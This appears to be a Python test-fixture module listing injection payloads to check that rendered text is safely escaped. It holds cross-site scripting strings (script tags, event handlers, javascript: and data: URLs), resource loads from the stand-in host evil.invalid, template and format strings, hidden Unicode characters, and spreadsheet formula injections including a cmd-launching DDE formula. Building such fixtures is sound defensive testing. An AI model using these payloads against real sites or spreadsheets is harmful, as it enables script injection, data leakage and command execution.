"""Texts that want to be more than text: each would show a mark of its own if anything took it for code."""

from __future__ import annotations

from collections.abc import Iterator, Sequence

#: A script that runs sets this on the window; an element that is made bears it in its name or its class.
MARK = "pwned"
#: Nothing of ours asks this host for anything. `.invalid` belongs to nobody.
EVIL = "http://evil.invalid"

#: What nobody sees in a text, or what turns it around.
HIDDEN = "\u202e\u200b\u2066\u2069\ufeff"

_SCRIPTS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<<script>window.pwned=1//<</script>",
    f"<script src={EVIL}/a.js></script>",
    "</style><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "'-window.pwned=1-'",
    "';window.pwned=1;//",
    '\\";window.pwned=1;//',
)
_ELEMENTS = (
    "<img src=x onerror=window.pwned=1>",
    f"<img class=pwned src={EVIL}/a.png>",
    '<IMG SRC="jav&#x09;ascript:window.pwned=1">',
    "<svg onload=window.pwned=1></svg>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror=window.pwned=1>",
    "<iframe class=pwned srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<iframe src={EVIL}/></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object class=pwned data=data:text/html,x></object>",
    f"<embed class=pwned src={EVIL}/a.swf>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<marquee class=pwned onstart=window.pwned=1>x</marquee>",
    f"<form class=pwned action={EVIL}><button>x</button></form>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content=0;url={EVIL}/>",
    f"<link class=pwned rel=stylesheet href={EVIL}/a.css>",
    f"<style>@import url({EVIL}/a.css);</style>",
    f"<style>*{{background:url({EVIL}/b.png)}}</style>",
    f"<b class=pwned style=background:url({EVIL}/c.png)>x</b>",
    "<b class=pwned>x</b>",
    "<br class=pwned><h1 class=pwned>x</h1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
)
_ATTRIBUTES = (
    '" onmouseover="window.pwned=1',
    "' onmouseover='window.pwned=1' x='",
    '" autofocus onfocus="window.pwned=1" x="',
    "x onfocus=window.pwned=1 ",
    f'" style="background:url({EVIL}/d.png)',
    f"}} *{{background:url({EVIL}/e.png)}} {{",
    f"expression(window.pwned=1);@import '{EVIL}/f.css'",
)
_LINKS = (
    "<a class=pwned href=javascript:window.pwned=1>x</a>",
    "[x](javascript:window.pwned=1)",
    f"[x]({EVIL}/g)",
    f"![x]({EVIL}/x.png)",
    f"![x][1]\n[1]: {EVIL}/y.png",
    f"<{EVIL}/h>",
    f"{EVIL}/i",
    "www.evil.invalid/j",
    "who@evil.invalid",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
)
_MARKS = (
    ":material/delete: x",
    ":red[x] :blue-background[y]",
    ":red-badge[x]",
    ":tada: :streamlit:",
    ":small[x] :shortcut[Ctrl+K]",
    "$\\href{javascript:window.pwned=1}{x}$",
    f"$$\\includegraphics{{{EVIL}/k.png}}$$",
    "$x^2$",
    "**x** _y_ ~~z~~ `w`",
    "# x",
    "- [ ] x",
    "| a | b |\n|---|---|\n| c | d |",
    "> x",
    "<- x -> y <-> z -- w >= v ~= u",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "&amp;lt;b&amp;gt;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\\x3cscript\\x3ewindow.pwned=1",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "%{x} %{y:.1f} <extra></extra>",
    "%s %(name)s {0} {name}",
    "\u202egnp.exe",
    "a\u200bb\u2066c\u2069",
    "\ufeffx",
    "+ADw-script+AD4-window.pwned=1",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
)
#: What a spreadsheet would reckon, ask the network for, or start a program by.
FORMULAS = (
    f'=HYPERLINK("{EVIL}/l","x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    f'=WEBSERVICE("{EVIL}/m")',
    f'=IMAGE("{EVIL}/n.png")',
    "\uff1d1+1",
    "'=1+1",
)
#: What a reader of Markdown would take for something else.
MARKED = (*_LINKS, *_MARKS)
PAYLOADS = (*_SCRIPTS, *_ELEMENTS, *_ATTRIBUTES, *_LINKS, *_MARKS, *FORMULAS)


def take(start: int = 0, *, without: str = "", of: Sequence[str] = PAYLOADS) -> Iterator[str]:
    """All of them in their order, over and over, from the one at `start`; none that holds a sign of `without`."""
    fit = [one for one in of if not set(one) & set(without)]
    number = start
    while True:
        yield fit[number % len(fit)]
        number += 1
